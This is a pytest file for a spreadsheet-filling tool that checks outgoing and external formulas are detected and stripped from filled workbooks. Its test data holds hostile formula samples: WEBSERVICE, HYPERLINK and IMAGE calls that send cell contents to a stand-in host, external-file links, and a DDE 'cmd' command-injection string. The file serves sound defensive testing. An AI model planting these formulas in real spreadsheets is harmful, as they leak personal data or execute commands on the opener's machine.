"""A filled copy sends nothing out and fetches nothing: only formulas that calculate are kept."""

from __future__ import annotations

import io

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName

from tongxing.exchange import filling, outgoing
from tongxing.exchange.tests.test_filling import blank, filled

PAGES = {"sheet", "附件 1"}


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x.example/?"&A2)',
        '=_xlfn.WEBSERVICE("http://x.example/?"&A2)',
        '=IF(A2="","",webservice ("http://x.example/"&A2))',
        '=HYPERLINK("http://x.example/?"&A2,"核对")',
        "=[1]Sheet!A1",
        "='[别的.xlsx]Sheet'!A1",
        "='file:///tmp/x'#$Sheet.A1",
        "='http://x.example/a.xlsx'!A1",
        "=cmd|'/c calc'!A0",
        "=elsewhere!A1",
        '=INDIRECT("A"&1)',
        '=RTD("x",,A2)',
        '=IMAGE("http://x.example/"&A2)',
        "=任意函数(A2)",
        '="a" & "b',
    ],
)
def test_what_reaches_out_is_known(formula: str):
    assert not outgoing.stays_inside(formula, PAGES)


@pytest.mark.parametrize(
    "formula", ["=B2+1", '=IF(MOD(MID(D2,17,1),2)=1,"男","女 [x]|http://")', "=COUNTA('附件 1'!B6:B35)", '=_xlfn.TEXTJOIN(",",TRUE,A1:A3)', "=Sheet!$A$1*2%", "=#REF!+1"]
)
def test_what_calculates_is_kept(formula: str):
    assert outgoing.stays_inside(formula, PAGES)


def reaching_out() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "年龄", "明年", "来源", "核对"])
    sheet["C2"], sheet["D2"], sheet["E2"] = "=B2+1", '=HYPERLINK("http://x.example/?"&A2)', '=WEBSERVICE("http://x.example/?"&A2)'
    sheet["H9"] = "='file:///x'!A1"
    book.defined_names["外面"] = DefinedName("外面", attr_text="'file:///x'!$A$1")
    book.defined_names["里面"] = DefinedName("里面", attr_text=f"'{sheet.title}'!$A$1")
    sheet.conditional_formatting.add("A2:A9", FormulaRule(formula=['WEBSERVICE("http://x.example/?"&A2)=""']))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_no_child_is_written_beside_a_formula_that_sends_it_out():
    book = filled(reaching_out())
    sheet = book.active
    assert [sheet.cell(31, column).value for column in (1, 3, 4, 5)] == ["王小30", "=B31+1", None, None]
    assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f" and "x.example" in cell.value]
    assert sheet["H38"].value is None
    assert list(book.defined_names) == ["里面"]
    assert not list(sheet.conditional_formatting)


def test_it_is_said_only_where_something_was_taken_out():
    assert filling.cleaned(reaching_out())[1]
    assert not filling.cleaned(blank())[1]
